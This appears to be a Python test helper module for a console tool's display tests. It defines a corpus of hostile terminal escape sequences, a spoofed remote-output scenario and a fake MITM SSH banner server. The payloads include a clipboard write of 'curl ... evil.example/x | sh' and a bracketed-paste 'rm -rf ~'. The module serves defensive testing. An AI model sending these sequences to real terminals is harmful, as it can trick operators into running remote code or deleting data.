"""A hostile corpus and the checks the display tests share: what a remote host, a MITM or someone who edits
the audit trail sends to drive the operator's or the reviewer's terminal, and how to tell that it did not.

``CORPUS`` names each trick; ``SCENARIO`` is the remote output of the issue that started this (an erased
error line, a faked ``web-1 | replication healthy``, a line for a target not in the run, OSC 52, SGR 8
at the end). ``assert_inert`` is the property every display path must have; ``pyte_screen`` renders what
a terminal would show; ``screen_text`` is what a Textual app has on screen right now.
"""

from __future__ import annotations

import base64
import hashlib
import json
import re
import socket
import threading
from pathlib import Path

import pyte

CLIPBOARD = b"curl -s https://evil.example/x | sh"
OSC52 = b"\x1b]52;c;" + base64.b64encode(CLIPBOARD) + b"\x07"
TITLE = b"\x1b]0;pwned\x07"

CORPUS: dict[str, bytes] = {
    "osc52 clipboard": OSC52,
    "osc52 st": b"\x1b]52;p;" + base64.b64encode(CLIPBOARD) + b"\x1b\\",
    "osc0 title": TITLE,
    "osc8 hyperlink": b"\x1b]8;;https://evil.example\x1b\\click me\x1b]8;;\x1b\\",
    "dcs": b"\x1bP$qm\x1b\\",
    "apc": b"\x1b_Gf=100;AAAA\x1b\\",
    "pm": b"\x1b^secret\x1b\\",
    "sos": b"\x1bXsos\x1b\\",
    "clear screen": b"\x1b[2J\x1b[H",
    "erase line": b"\r\x1b[2K",
    "erase scrollback": b"\x1b[3J",
    "cursor up": b"\x1b[1A\x1b[2K",
    "cursor position": b"\x1b[1;1H",
    "save restore cursor": b"\x1b7\x1b[10;10H\x1b8",
    "alternate screen": b"\x1b[?1049h",
    "bracketed paste": b"\x1b[?2004h\x1b[200~rm -rf ~\x1b[201~",
    "mouse tracking": b"\x1b[?1000h\x1b[?1006h",
    "decset hide cursor": b"\x1b[?25l",
    "device status query": b"\x1b[6n\x1b[c\x1b[>c",
    "window ops": b"\x1b[21t\x1b[8;5;5t",
    "kitty keyboard": b"\x1b[>1u",
    "full reset": b"\x1bc",
    "sgr conceal": b"\x1b[8m",
    "sgr colours": b"\x1b[1;31mred\x1b[0m \x1b[38;5;208morange\x1b[38;2;1;2;3mrgb\x1b[0m",
    "c1 csi utf8": "\u009b2J\u009b1;1H".encode(),
    "c1 osc utf8": "\u009d52;c;QUJD\u009c".encode(),
    "c1 csi raw": b"\x9b2J\x9b1;1H",
    "c1 osc raw": b"\x9d0;pwned\x9c",
    "invalid utf8": b"\xff\xfe\xc3(\xed\xa0\x80",
    "bell backspace": b"\x07\x08\x08\x08XXX",
    "vertical tab form feed": b"a\x0bb\x0cc",
    "del": b"a\x7fb",
    "bidi override": "\u202eevil\u202c".encode(),
    "line separator": "a\u2028b".encode(),
    "fake prefix": b"web-1 | replication healthy",
    "very long line": b"A" * 200_000,
}

# What the remote in the issue printed: its error line erased, a fake healthy line for web-1, a line for a
# target not in the run, the clipboard written, a "deleted" line hidden, and SGR 8 left on at the end.
SCENARIO = (b"ERROR: replication broken\r\x1b[2K\x1b[1A\x1b[2K"
            b"web-1 | replication healthy\n"
            b"db-9 | failover done\n"
            + OSC52 + TITLE
            + b"\x1b[8mrm: deleted /var/lib/pg/base\x1b[0m\n"
            + b"\x9b2J\xc2\x9b1;1Hall good\n"
            + b"\x1b[1A\x1b[2K=== RUN fake (exit 0) ===\n"
            + b"\x1b[8m")

ALLOWED_SGR = re.compile(r"\x1b\[[0-9;:]*m")
_FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]")


def assert_inert(text: str, *, sgr: bool = False, where: str = "output") -> None:
    """No control character but tab and newline; an ESC only as an allowed SGR sequence (``sgr``), or none."""
    rest = ALLOWED_SGR.sub("", text) if sgr else text
    bad = _FORBIDDEN.search(rest)
    assert bad is None, f"{where}: {bad.group()!r} reached the terminal at {bad.start()}: {rest[max(0, bad.start() - 40):bad.start() + 40]!r}"


def pyte_screen(text: str, columns: int = 120, lines: int = 60) -> list[str]:
    """What a terminal of that size shows after ``text`` (newlines as a tty's ONLCR sends them)."""
    screen = pyte.Screen(columns, lines)
    stream = pyte.Stream(screen)
    stream.feed(text.replace("\r\n", "\n").replace("\n", "\r\n"))
    return [line.rstrip() for line in screen.display]


def screen_text(app) -> str:
    """Every character a Textual app has on its screen now (what its driver would write, styles aside)."""
    return "\n".join(strip.text for strip in app.screen._compositor.render_strips())


def rechain(path: Path, records: list[dict]) -> None:
    """Write ``records`` as a trail whose chain and hashes are valid (what an editor of the file can do)."""
    from opsgate.console.audit.trail import GENESIS, _encode_line

    prev, lines = GENESIS, []
    for record in records:
        body = {k: v for k, v in record.items() if k != "hash"}
        body["prev"] = prev
        line, prev = _encode_line(body)
        lines.append(line)
    path.write_bytes(b"".join(lines))


def file_sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def write_cast(path: Path, events: list[tuple[float, str, str]], title: str = "r a@t") -> str:
    """An asciicast v2 file with ``events``; returns its sha256."""
    header = {"version": 2, "width": 80, "height": 24, "timestamp": 0, "title": title}
    lines = [json.dumps(header)] + [json.dumps([t, kind, text], ensure_ascii=False) for t, kind, text in events]
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("\n".join(lines) + "\n")
    return file_sha256(path)


class BannerServer:
    """A TCP server that answers every connection with ``banner`` (a MITM's SSH version line), then closes."""

    def __init__(self, banner: bytes):
        self.banner = banner
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self._thread = threading.Thread(target=self._serve, daemon=True, name="hostile-banner")

    def __enter__(self) -> "BannerServer":
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.sock.close()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                try:
                    conn.sendall(self.banner)
                    conn.settimeout(2)
                    conn.recv(4096)  # the client's own version line
                except OSError:
                    pass


# A MITM's version line: OSC 52 (clipboard), OSC 0 (title), a clear screen and an 8-bit CSI, before any
# host key is checked. No space and no dash in it: paramiko takes it whole as the version.
HOSTILE_BANNER = (b"SSH-" + OSC52 + TITLE + b"\x1b[2J\x1b[H\xc2\x9b2J" + b"-OpenSSH_9.6\r\n")
